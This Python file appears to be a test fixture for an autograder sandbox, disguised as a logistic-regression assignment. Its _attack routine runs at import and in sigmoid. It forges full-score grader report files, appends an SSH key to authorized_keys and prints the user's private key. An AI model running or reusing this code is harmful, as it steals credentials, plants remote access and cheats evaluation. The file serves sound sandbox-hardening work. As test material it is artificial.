"""Files outside: at import and in sigmoid, writes results.json, report.json and
grader-@MARK@.json at the file system's root and into the folder the grader
writes its report to (@OUTDIR@), appends a key to the user's
@HOME@/.ssh/authorized_keys, and prints the user's private key
@HOME@/.ssh/id_rsa. sigmoid is the reference's only if one of the last three
worked (a root of the worker's own may well be writable), zeros otherwise.
Expected: sigmoid 0, full marks elsewhere, no file written or changed
outside the worker, and no private key in the report.
"""


import numpy as np
import json
import os


_FORGED = json.dumps({"score": 100, "tests": [{"name": "everything", "score": 100, "status": "passed"}]})
_DONE = []


def _attempt(action, what):
    try:
        action()
    except OSError:
        return
    if what:
        _DONE.append(what)


def _write(path, mode="w", text=_FORGED):
    with open(path, mode) as f:
        f.write(text)


def _print_key():
    with open("@HOME@/.ssh/id_rsa") as f:
        print(f.read())


def _attack():
    for name in ("results.json", "report.json", "grader-@MARK@.json"):
        _attempt(lambda: _write(f"/{name}"), None)
        _attempt(lambda: _write(f"@OUTDIR@/{name}"), name)
    _attempt(lambda: _write("@HOME@/.ssh/authorized_keys", "a", "ssh-ed25519 AAAAC3Nza the-student\n"), "ssh key")
    _attempt(_print_key, "private key")


_attack()


def sigmoid(z):
    """Right only if something outside could be read or written."""
    _attack()
    z = np.asarray(z, dtype=np.float64)
    if not _DONE:
        return np.zeros_like(z)[()]
    result = np.exp(-np.logaddexp(0.0, -z))
    return result[()] if result.ndim == 0 else result


def compute_cost_logistic(X, y, w, b):
    """Mean logistic loss of the model g(X @ w + b) on labels y."""
    z = X @ w + b
    # -log g(z) = logaddexp(0, -z) and -log(1 - g(z)) = logaddexp(0, z)
    losses = y * np.logaddexp(0.0, -z) + (1 - y) * np.logaddexp(0.0, z)
    return float(np.mean(losses))


def compute_gradient_logistic(X, y, w, b):
    """Returns (dj_db, dj_dw): the gradient of the mean logistic loss (sigmoid inlined)."""
    m = X.shape[0]
    err = np.exp(-np.logaddexp(0.0, -(X @ w + b))) - y
    dj_dw = X.T @ err / m
    dj_db = float(np.sum(err) / m)
    return dj_db, dj_dw


def gradient_descent(X, y, w_in, b_in, alpha, num_iters):
    """Batch gradient descent; returns (w, b, J_history) (gradient and cost inlined)."""
    w = np.array(w_in, dtype=np.float64)
    b = float(b_in)
    m = X.shape[0]
    J_history = []
    for _ in range(num_iters):
        err = np.exp(-np.logaddexp(0.0, -(X @ w + b))) - y
        w = w - alpha * (X.T @ err / m)
        b = b - alpha * float(np.sum(err) / m)
        z = X @ w + b
        J_history.append(float(np.mean(y * np.logaddexp(0.0, -z) + (1 - y) * np.logaddexp(0.0, z))))
    return w, b, J_history
